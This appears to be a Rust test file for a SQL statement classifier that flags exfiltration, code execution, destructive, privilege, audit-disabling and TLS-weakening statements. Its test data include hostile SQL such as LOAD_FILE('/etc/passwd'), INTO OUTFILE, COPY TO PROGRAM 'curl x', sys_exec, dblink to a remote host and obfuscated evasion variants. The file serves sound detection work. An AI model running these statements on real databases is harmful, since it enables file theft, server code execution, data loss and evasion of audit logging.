//! Tests of statement classification.

use super::StatementClass::*;
use super::*;

fn c(s: &str) -> StatementClass {
    classify(s.as_bytes())
}

#[test]
fn privilege_statements_are_recognised() {
    assert_eq!(c("GRANT ALL ON sa_db TO u2 IDENTIFIED BY *****"), Privilege);
    assert_eq!(c("revoke select on t from u"), Privilege);
    assert_eq!(
        c(r"CREATE USER \'u1_empty\'@\'%\' IDENTIFIED BY <secret>"),
        Privilege
    );
    assert_eq!(c("ALTER USER 'a'@'%' IDENTIFIED BY 'x'"), Privilege);
    assert_eq!(c("DROP USER bob"), Privilege);
    assert_eq!(c("RENAME USER a TO b"), Privilege);
    assert_eq!(c("SET PASSWORD FOR u1=<secret>"), Privilege);
    assert_eq!(c("create role analyst"), Privilege);
    assert_eq!(c("CREATE OR REPLACE USER x"), Privilege);
    assert_eq!(c("SET DEFAULT ROLE ALL TO u"), Privilege);
}

#[test]
fn destructive_statements_are_recognised() {
    assert_eq!(c("DROP TABLE orders.customers_backup"), Destructive);
    assert_eq!(c("drop database shop"), Destructive);
    assert_eq!(c("TRUNCATE TABLE warehouse.staging"), Destructive);
    assert_eq!(c("DELETE FROM billing.invoices"), Destructive);
    assert_eq!(c("UPDATE users SET admin=1"), Destructive);
    assert_eq!(c("ALTER TABLE t DROP COLUMN c"), Destructive);
}

#[test]
fn where_clause_makes_delete_and_update_plain_writes() {
    assert_eq!(c("DELETE FROM t WHERE id = 1"), Write);
    assert_eq!(c(r"UPDATE t SET a=1\nWHERE id=2"), Write);
    assert_eq!(c("UPDATE t SET nowhere=1"), Destructive);
}

#[test]
fn exfiltration_is_found_anywhere_in_the_statement() {
    assert_eq!(
        c("SELECT * FROM orders.customers INTO OUTFILE '/tmp/c.csv'"),
        Exfiltration
    );
    assert_eq!(c("select a into   dumpfile '/tmp/x'"), Exfiltration);
    assert_eq!(c("SELECT LOAD_FILE('/etc/passwd')"), Exfiltration);
    assert_eq!(c("COPY t TO PROGRAM 'curl x'"), Exfiltration);
    assert_eq!(c("COPY t TO '/tmp/t.csv'"), Exfiltration);
    assert_eq!(c("COPY t TO STDOUT"), Write);
    assert_eq!(c("select pg_read_file('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT outfile, profile FROM t"), Read);
    assert_eq!(c("SELECT lo_export(123, '/tmp/x')"), Exfiltration);
    assert_eq!(c("SELECT lo_export_count FROM t"), Read);
}

#[test]
fn leading_comments_and_executable_comments_are_skipped() {
    assert_eq!(c("/* app=orders */ SELECT 1"), Read);
    // An executable comment is code, not a comment.
    assert_eq!(c("/*!40101 DROP TABLE x */"), Destructive);
    assert_eq!(c("/*!40101 SET NAMES utf8 */;"), Other);
    assert_eq!(c("/* SET NAMES utf8 */ DROP TABLE x"), Destructive);
    assert_eq!(c(r"-- hi\nGRANT ALL ON *.* TO x"), Privilege);
    assert_eq!(c("# note\nTRUNCATE t"), Destructive);
    assert_eq!(c("  \n select 1"), Read);
}

#[test]
fn everything_else_has_a_class() {
    assert_eq!(c("CREATE TABLE t (a int)"), Ddl);
    assert_eq!(c("DROP VIEW v"), Ddl);
    assert_eq!(c("INSERT INTO t VALUES (1)"), Write);
    assert_eq!(c("SET autocommit=1"), Other);
    assert_eq!(c("BEGIN"), Other);
    assert_eq!(c(""), Other);
    assert_eq!(c("SELEC"), Other);
    assert_eq!(c("DR"), Other);
}

#[test]
fn paren_and_f_positions_are_all_found_in_order() {
    for len in 0..70 {
        let body: Vec<u8> = (0..len)
            .map(|i| match i % 7 {
                0 => b'F',
                3 => b'(',
                5 => 0xC3, // a non-ASCII byte
                6 => 0x08, // | 0x20 is `(`: must not count
                _ => b'a' + (i % 5) as u8,
            })
            .collect();
        let want: Vec<usize> = (0..len)
            .filter(|&i| matches!(body[i], b'F' | b'f' | b'('))
            .collect();
        let mut got = Vec::new();
        for_each_paren_or_f(&body, |i| {
            got.push(i);
            false
        });
        assert_eq!(got, want, "len {len}");
        let mut calls = 0;
        for_each_paren_or_f(&body, |_| {
            calls += 1;
            true
        });
        assert_eq!(calls, want.len().min(1));
    }
    assert_eq!(c("SELECT LO_EXPORT (16409, '/tmp/x')"), Exfiltration);
    assert_eq!(c("select * from t into   dumpfile '/tmp/x'"), Exfiltration);
    assert_eq!(c("SELECT lo_exports FROM t"), Read);
}

#[test]
fn name_runs_are_found_16_bytes_at_a_time() {
    // Every byte value, at every position of the 16 bytes before `end`.
    for b in 0..=255u8 {
        for pos in 0..20 {
            let mut s = b"SELECT x, abc_def_ghijklmnop_qrstu".to_vec();
            let at = s.len() - 1 - pos.min(s.len() - 1);
            s[at] = b;
            for end in 0..=s.len() {
                let want = s[..end]
                    .iter()
                    .rposition(|&c| !is_ident(c))
                    .map_or(0, |p| p + 1);
                assert_eq!(run_start(&s, end), want, "byte {b:#x} at {at}, end {end}");
            }
        }
    }
}

#[test]
fn a_name_behind_spaces_or_anything_else_before_a_paren_is_seen() {
    // The fast path (a bare name behind spaces) and the ways around it.
    assert_eq!(c("SELECT LOAD_FILE   ('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT x, Load_File('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT load_file/* c */ ('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT load_file /* c */('/etc/passwd')"), Exfiltration);
    assert_eq!(c(r"SELECT load_file\n('/etc/passwd')"), Exfiltration);
    assert_eq!(c(r"SELECT load_file \n ('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT load_file\t('/etc/passwd')"), Exfiltration);
    assert_eq!(c(r"SELECT a,\nload_file('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT `LOAD_FILE` ('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT load_file\n ('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT load_file -- c\n ('/etc/passwd')"), Exfiltration);
    assert_eq!(
        c("SELECT aaaaaaaaaaaaaaaaaaaaaaaa, pg_read_binary_file('/etc/passwd')"),
        Exfiltration
    );
    assert_eq!(c("SELECT x,dblink_exec('c', 'DROP TABLE t')"), Exfiltration);
    // Names that are none of the functions, long and short.
    assert_eq!(c("SELECT COUNT(*), SUM(a) FROM t WHERE a IN (1, 2)"), Read);
    assert_eq!(c("SELECT LAST_INSERT_ID()"), Read);
    assert_eq!(
        c("INSERT INTO a_very_long_table_name_of_more_than_twenty (a) VALUES (1)"),
        Write
    );
    assert_eq!(c("SELECT xload_file('/etc/passwd')"), Read);
}

#[test]
fn every_function_passes_the_quick_rejection() {
    for name in [
        "load_file",
        "pg_read_file",
        "pg_read_binary_file",
        "lo_import",
        "lo_export",
        "pg_file_write",
        "lo_from_bytea",
        "sys_exec",
        "sys_eval",
        "lib_mysqludf_sys_info",
        "set_config",
        "dblink",
        "dblink_connect_u",
        "dblink_build_sql_insert",
    ] {
        for n in [name.to_string(), name.to_uppercase()] {
            assert!(call_class(n.as_bytes()).is_some(), "{n}");
        }
    }
    assert_eq!(c("SELECT PG_READ_FILE('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT Sys_Eval('id')"), CodeExecution);
    assert_eq!(c("SELECT LIB_MYSQLUDF_SYS_INFO()"), CodeExecution);
    assert_eq!(c("SELECT DbLink('x', 'y')"), Exfiltration);
}

#[test]
fn every_spelling_of_or_reaches_the_full_check() {
    assert_eq!(c("DELETE FROM t WHERE id = 5 or 1=1"), Destructive);
    assert_eq!(c(r"DELETE FROM t WHERE id = 5\nOR 1=1"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE id = 5 XOR 1=1"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE id = 5/**/Or/**/1=1"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE id = 5 || 1=1"), Destructive);
    assert_eq!(c("UPDATE t SET a = 1 WHERE id = 5 ORDER BY id"), Write);
    assert_eq!(
        c("UPDATE t SET a = 1 WHERE order_id = 5 OR color = 2"),
        Write
    );
}

#[test]
fn a_line_comment_before_an_escaped_newline_is_seen() {
    assert_eq!(c(r"SELECT load_file -- a\n ('/etc/passwd')"), Exfiltration);
    assert_eq!(
        c(r"SELECT 1,\n load_file # a\n('/etc/passwd')"),
        Exfiltration
    );
    assert_eq!(
        c(r"SELECT a -- b\n, load_file\n('/etc/passwd')"),
        Exfiltration
    );
    assert_eq!(c(r"INSERT INTO t (a) VALUES (1),\n (2) -- x"), Write);
}

#[test]
fn the_file_of_outfile_is_found_in_any_case() {
    assert_eq!(c("SELECT 1 INTO OutFile '/tmp/x'"), Exfiltration);
    assert_eq!(c("SELECT 1 into dumpFILE '/tmp/x'"), Exfiltration);
    assert_eq!(c("SELECT 1 INTO OUTFILES"), Read);
    assert_eq!(c("SELECT fil, file, FILE FROM t"), Read);
}

#[test]
fn obfuscated_statements_are_seen_through() {
    assert_eq!(
        c("SELECT/**/*/**/FROM/**/customers/**/INTO/**/OUTFILE '/tmp/a.csv'"),
        Exfiltration
    );
    assert_eq!(
        c("SELECT * FROM customers INTO\nOUTFILE '/tmp/a.csv'"),
        Exfiltration
    );
    assert_eq!(
        c(r"SELECT * FROM customers INTO\nOUTFILE \'/tmp/a.csv\'"),
        Exfiltration
    );
    assert_eq!(
        c("SELECT * FROM t INTO -- x\n OUTFILE '/tmp/a'"),
        Exfiltration
    );
    assert_eq!(
        c("/*!SELECT*/ * FROM t /*!INTO*/ OUTFILE '/tmp/a'"),
        Exfiltration
    );
    assert_eq!(
        c("SELECT LOAD_FILE/**/(0x2f6574632f706173737764)"),
        Exfiltration
    );
    assert_eq!(c("SELECT `load_file`(CHAR(47,101,116,99))"), Exfiltration);
    assert_eq!(
        c(r#"SELECT \"pg_read_file\"(\'/etc/passwd\')"#),
        Exfiltration
    );
    // A function name split from its `(` by a line comment or by lines.
    assert_eq!(c("SELECT load_file -- x\n('/etc/passwd')"), Exfiltration);
    assert_eq!(c(r"SELECT load_file # x\n('/etc/passwd')"), Exfiltration);
    assert_eq!(c(r"SELECT load_file\n  \n('/etc/passwd')"), Exfiltration);
    assert_eq!(
        c("SELECT 1;\nSELECT load_file\n('/etc/passwd')"),
        Exfiltration
    );
    assert_eq!(c(r"SELECT 1,\nload_file(\'/etc/passwd\')"), Exfiltration);
    assert_eq!(c(r"SELECT 1,\tsys_exec(\'id\')"), CodeExecution);
    assert_eq!(c(r"SELECT * FROM t\nINTO OUTFILE \'/tmp/x\'"), Exfiltration);
    assert_eq!(
        c(r"SELECT * FROM t\nINTO\nDUMPFILE \'/tmp/x\'"),
        Exfiltration
    );
    // Quoted tables before column lists and rows on new lines are ordinary.
    assert_eq!(
        c(r"INSERT INTO `t` (a, b)\nVALUES (1, 2),\n       (3, 4)"),
        Write
    );
    assert_eq!(c("INSERT INTO \"t\" (a) VALUES (1)"), Write);
    // A literal is not code.
    assert_eq!(c("SELECT 'load_file(1)', 'into outfile x' FROM t"), Read);
    assert_eq!(
        c("INSERT INTO notes (body) VALUES ('use INTO OUTFILE here')"),
        Write
    );
}

#[test]
fn server_file_reads_and_remote_servers_are_exfiltration() {
    assert_eq!(
        c("LOAD DATA INFILE '/etc/passwd' INTO TABLE t"),
        Exfiltration
    );
    assert_eq!(
        c("load data low_priority infile '/etc/passwd' into table t"),
        Exfiltration
    );
    assert_eq!(c("LOAD XML INFILE '/tmp/x.xml' INTO TABLE t"), Exfiltration);
    assert_eq!(c("LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t"), Write);
    assert_eq!(c("SELECT pg_read_binary_file('/etc/passwd')"), Exfiltration);
    assert_eq!(c("SELECT lo_import('/etc/passwd')"), Exfiltration);
    assert_eq!(c("COPY t FROM '/etc/passwd'"), Exfiltration);
    assert_eq!(c("COPY t FROM STDIN"), Write);
    assert_eq!(
        c("COPY (SELECT * FROM t WHERE a IN (SELECT b FROM u)) TO '/tmp/x'"),
        Exfiltration
    );
    assert_eq!(
        c("SELECT * FROM dblink('host=203.0.113.9 user=x', 'SELECT 1') AS t(a int)"),
        Exfiltration
    );
    assert_eq!(
        c("SELECT dblink_exec('conn', 'INSERT INTO t SELECT 1')"),
        Exfiltration
    );
    assert_eq!(c("CREATE EXTENSION postgres_fdw"), Exfiltration);
    assert_eq!(
        c("CREATE SERVER exfil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9')"),
        Exfiltration
    );
    assert_eq!(c("CREATE USER MAPPING FOR app SERVER exfil"), Exfiltration);
    assert_eq!(
        c("CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='mysql://u@203.0.113.9/db/t'"),
        Exfiltration
    );
    assert_eq!(
        c("create table t (a int) engine = CONNECT table_type=MYSQL"),
        Exfiltration
    );
    assert_eq!(c("CREATE TABLE t (a int) ENGINE=InnoDB"), Ddl);
}

#[test]
fn tautological_filters_are_destructive() {
    assert_eq!(c("DELETE FROM customers WHERE 1=1"), Destructive);
    assert_eq!(c("UPDATE customers SET email='x' WHERE 1"), Destructive);
    assert_eq!(c(r"UPDATE customers SET email=\'x\' WHERE 1"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE true"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE 'a'='a'"), Destructive);
    assert_eq!(c(r"DELETE FROM t WHERE \'a\'=\'a\'"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE id = 5 OR 1=1"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE id = 5 OR (1 = 1) -- x"), Destructive);
    assert_eq!(c("DELETE FROM t WHERE (2 > 1) LIMIT 10"), Destructive);
    assert_eq!(c("DELETE FROM t /* WHERE id = 1 */"), Destructive);
    assert_eq!(c("UPDATE t SET note = 'where' "), Destructive);
    assert_eq!(
        c(r"UPDATE t SET note = \'a where b\' /* WHERE id = 1 */"),
        Destructive
    );
    assert_eq!(
        c("UPDATE t SET note = 'x WHERE y', b = \"WHERE\" WHERE id = 1"),
        Write
    );
    assert_eq!(
        c("UPDATE t SET note = $$ WHERE $$ WHERE 1 = 1"),
        Destructive
    );
    assert_eq!(c("UPDATE t SET a = 2 - 1, b = 4 / 2 WHERE id = 1"), Write);
    // Ordinary filters, also with a query builder's `1=1 AND`.
    assert_eq!(c("DELETE FROM t WHERE id = 1"), Write);
    assert_eq!(c("DELETE FROM t WHERE 1=1 AND id = 1"), Write);
    assert_eq!(c("UPDATE t SET a = 1 WHERE 1 = 0"), Write);
    assert_eq!(
        c("UPDATE t SET a = 'x' /* c */ WHERE\n id = 1 OR id = 2"),
        Write
    );
    assert_eq!(c("DELETE FROM t WHERE 'a' = 'b'"), Write);
}

#[test]
fn drop_schema_is_destructive() {
    assert_eq!(c("DROP SCHEMA shop CASCADE"), Destructive);
    assert_eq!(c("DROP SCHEMA IF EXISTS shop"), Destructive);
}

#[test]
fn switching_the_audit_off_is_audit() {
    assert_eq!(c("SET GLOBAL server_audit_logging=OFF"), Audit);
    assert_eq!(c("SET @@global.server_audit_logging = 0"), Audit);
    assert_eq!(c("set global `server_audit_logging` = off"), Audit);
    assert_eq!(c("SET GLOBAL server_audit_logging=ON"), Other);
    assert_eq!(c("UNINSTALL PLUGIN server_audit"), Audit);
    assert_eq!(c("UNINSTALL SONAME 'server_audit'"), Audit);
    assert_eq!(c("SET GLOBAL server_audit_excl_users='app'"), Audit);
    assert_eq!(c(r"SET GLOBAL server_audit_incl_users=\'nobody\'"), Audit);
    assert_eq!(c("SET GLOBAL server_audit_events='CONNECT'"), Audit);
    assert_eq!(
        c("SET GLOBAL server_audit_events='CONNECT,QUERY,TABLE'"),
        Other
    );
    assert_eq!(c("SET pgaudit.log = 'none'"), Audit);
    assert_eq!(c("SET SESSION pgaudit.log TO 'none'"), Audit);
    assert_eq!(c("ALTER SYSTEM SET pgaudit.log = 'none'"), Audit);
    assert_eq!(c("ALTER SYSTEM SET pgaudit.log TO 'all'"), Other);
    assert_eq!(c("ALTER SYSTEM SET log_connections = off"), Audit);
    assert_eq!(c("ALTER SYSTEM SET log_disconnections TO 'off'"), Audit);
    assert_eq!(c("ALTER SYSTEM SET log_statement = 'none'"), Audit);
    assert_eq!(c("SET log_statement = 'none'"), Audit);
    assert_eq!(c("ALTER DATABASE shop SET pgaudit.log = 'none'"), Audit);
    assert_eq!(c("ALTER ROLE app SET pgaudit.log TO 'none'"), Audit);
    assert_eq!(c("DROP EXTENSION pgaudit"), Audit);
    assert_eq!(c("DROP EXTENSION IF EXISTS pgaudit CASCADE"), Audit);
    assert_eq!(c("SELECT set_config('pgaudit.log', 'none', false)"), Audit);
    assert_eq!(c("SELECT set_config('search_path', 'x', false)"), Read);
    assert_eq!(c("SET application_name = 'psql'"), Other);
}

#[test]
fn weakening_tls_is_tls() {
    assert_eq!(c("SET GLOBAL require_secure_transport=OFF"), Tls);
    assert_eq!(c("SET PERSIST require_secure_transport = 0"), Tls);
    assert_eq!(c("SET GLOBAL require_secure_transport=ON"), Other);
    assert_eq!(c("ALTER SYSTEM SET ssl = off"), Tls);
    assert_eq!(
        c("ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1'"),
        Tls
    );
    assert_eq!(
        c("ALTER SYSTEM SET ssl_min_protocol_version = 'TLSv1.2'"),
        Other
    );
    assert_eq!(c("ALTER USER 'app'@'%' REQUIRE NONE"), Tls);
    assert_eq!(c("ALTER USER 'app'@'%' REQUIRE SSL"), Privilege);
}

#[test]
fn code_execution_is_recognised() {
    assert_eq!(
        c("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'"),
        CodeExecution
    );
    assert_eq!(
        c("create aggregate function f returns string soname 'x.so'"),
        CodeExecution
    );
    assert_eq!(c("COPY t FROM PROGRAM 'id'"), CodeExecution);
    assert_eq!(c("COPY t TO PROGRAM 'curl x'"), Exfiltration);
    assert_eq!(c("CREATE LANGUAGE plpython3u"), CodeExecution);
    assert_eq!(
        c("CREATE TRUSTED PROCEDURAL LANGUAGE plperlu"),
        CodeExecution
    );
    assert_eq!(c("CREATE LANGUAGE plpgsql"), Ddl);
    assert_eq!(
        c("CREATE OR REPLACE FUNCTION x() RETURNS text AS $$ import os; return os.popen('id').read() $$ LANGUAGE plpython3u"),
        CodeExecution
    );
    assert_eq!(
        c("CREATE FUNCTION sys(cstring) RETURNS int AS '/tmp/x.so', 'sys' LANGUAGE 'c' STRICT"),
        CodeExecution
    );
    assert_eq!(
        c("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql"),
        Ddl
    );
    assert_eq!(c("CREATE EXTENSION adminpack"), CodeExecution);
    assert_eq!(c("CREATE EXTENSION IF NOT EXISTS dblink"), CodeExecution);
    assert_eq!(c("CREATE EXTENSION plpython3u"), CodeExecution);
    assert_eq!(c("CREATE EXTENSION pg_stat_statements"), Ddl);
    assert_eq!(
        c("SELECT unhex('7f45') INTO DUMPFILE '/usr/lib64/mysql/plugin/udf.so'"),
        CodeExecution
    );
    assert_eq!(c("SELECT sys_exec('id')"), CodeExecution);
    assert_eq!(c("INSTALL PLUGIN x SONAME 'x.so'"), CodeExecution);
    assert_eq!(
        c("INSTALL PLUGIN server_audit SONAME 'server_audit.so'"),
        Other
    );
    assert_eq!(c("LOAD '/tmp/evil.so'"), CodeExecution);
}

#[test]
fn ordinary_application_traffic_stays_ordinary() {
    assert_eq!(
        c("/* app=orders */ SELECT id FROM orders WHERE id = 1"),
        Read
    );
    assert_eq!(
        c("SELECT o.id,\n  o.total -- total\nFROM orders o\nWHERE o.id = 1"),
        Read
    );
    assert_eq!(
        c(r"SELECT o.id,\n  o.total\nFROM orders o\nWHERE o.id = 1"),
        Read
    );
    assert_eq!(
        c("UPDATE orders /* status */ SET status = 'paid'\nWHERE id = 1"),
        Write
    );
    assert_eq!(
        c(r"UPDATE orders SET status = \'paid\'\nWHERE id = 1"),
        Write
    );
    assert_eq!(c("DELETE FROM cart_items -- stale\nWHERE id = 1"), Write);
    assert_eq!(c("SELECT COUNT(*), MAX(created_at) FROM orders"), Read);
    assert_eq!(c("INSERT INTO t (a) VALUES (NOW())"), Write);
    assert_eq!(c("SELECT profile FROM t WHERE f(1) = 2"), Read);
}
